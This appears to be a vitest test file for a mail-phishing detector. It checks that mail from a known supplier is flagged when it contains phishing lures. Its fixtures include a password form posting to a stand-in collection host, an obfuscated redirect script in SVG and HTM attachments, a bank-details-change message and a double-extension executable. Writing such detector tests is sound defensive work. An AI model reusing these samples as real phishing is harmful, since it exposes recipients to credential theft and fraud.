import { describe, expect, test } from 'vitest'
import { judgeMail } from '../../../judge/judge.ts'
import { archive } from '../../support/judge/archive.ts'
import { clinic, makeMail, wordless } from '../../support/judge/mails.ts'

/*
 * A mailbox that is known and proven, and whose words seem as honest as words can: it is told from one that was
 * taken over by what it asks for.
 */

const known = {
  from: 'Lena Weber <lena@supplier.example>',
  headers: ['Authentication-Results: mx.clinic.example; dmarc=pass'],
}
const greeting = 'Good morning Rania, as we spoke about on Tuesday. '

async function judged(parts: Parameters<typeof makeMail>[0]) {
  return await judgeMail(makeMail({ ...known, ...parts }), clinic, { model: wordless(0.001) })
}

function withFile(text: string, name: string, type: string, content: string) {
  const body = [
    '--parts',
    'Content-Type: text/plain; charset=utf-8',
    '',
    greeting + text,
    '--parts',
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(content, 'latin1').toString('base64'),
    '--parts--',
  ]
  return { type: 'multipart/mixed; boundary=parts', body: body.join('\n') }
}

const page = (text: string, link: string) => ({
  type: 'text/html; charset=utf-8',
  body: `<p>${greeting}${text} <a href="${link}">Open</a></p>`,
})
const elsewhere = 'https://secure-view.pages.example/d/7'
const form = '<form action="https://collect.example/p"><input type=password name=p></form>'
const script = '<script>window["loca"+"tion"]; location.href = atob("aHR0cHM6Ly94")</script>'

describe('a known sender is marked', () => {
  test.each([
    [
      'asks_to_sign_in_elsewhere',
      page('Please verify your account with your password.', elsewhere),
    ],
    [
      'asks_to_sign_in_elsewhere',
      page('Please sign in with your work account to view the shared document.', elsewhere),
    ],
    ['asks_to_sign_in_elsewhere', page('يرجى تسجيل الدخول للاطلاع على المستند.', elsewhere)],
    ['attached_page_', withFile('The invoice is attached.', 'invoice.html', 'text/html', form)],
    [
      'attached_page_',
      withFile('The invoice is attached.', 'invoice.svg', 'image/svg+xml', `<svg>${script}</svg>`),
    ],
    [
      'attached_page_',
      withFile('مرفق الفاتورة.', 'invoice.htm', 'application/octet-stream', script),
    ],
    [
      'archive_with_password_in_text',
      withFile('The password is 4471.', 'plan.zip', 'application/zip', archive(1)),
    ],
    [
      'archive_with_password_in_text',
      withFile('كلمة المرور: 4471.', 'plan.zip', 'application/zip', archive(1)),
    ],
    [
      'code_to_scan',
      withFile('Please scan the QR code to review the document.', 'a.png', 'image/png', 'PNG'),
    ],
    ['code_to_scan', withFile('امسح رمز QR لمراجعة المستند.', 'a.png', 'image/png', 'PNG')],
    [
      'changed_bank_details',
      { body: `${greeting}Our bank account has changed, please use the new one.` },
    ],
    [
      'dangerous_attachment',
      withFile('The plan is attached.', 'plan.pdf.exe', 'application/octet-stream', 'MZ'),
    ],
  ])('for %s: %j', async (code, parts) => {
    const { level, reasons } = await judged(parts)
    expect(reasons[0]?.code).toMatch(code)
    expect(level).toBe('suspicious')
  })
})

describe('a known sender is not marked', () => {
  test.each([
    page('Please sign in to view the shared document.', 'https://docs.supplier.example/d/7'),
    page('Please sign in to view the shared document.', 'https://supplier.sharepoint.com/d/7'),
    page('Please sign in to view the shared document.', 'https://intranet.clinic.example/d/7'),
    page('The photographs of Tuesday are here.', elsewhere),
    page('We will never ask you for your password or to sign in.', elsewhere),
    withFile(
      'The report is attached.',
      'report.html',
      'text/html',
      '<table><tr><td>12</td></tr></table>',
    ),
    withFile('The plan is attached.', 'plan.zip', 'application/zip', archive(0)),
    withFile('You find the password with Omar.', 'plan.zip', 'application/zip', archive(1)),
    withFile('Scan the page and send it back.', 'a.png', 'image/png', 'PNG'),
  ])('for %j', async (parts) => {
    expect((await judged(parts)).level).toBe('safe')
  })
})
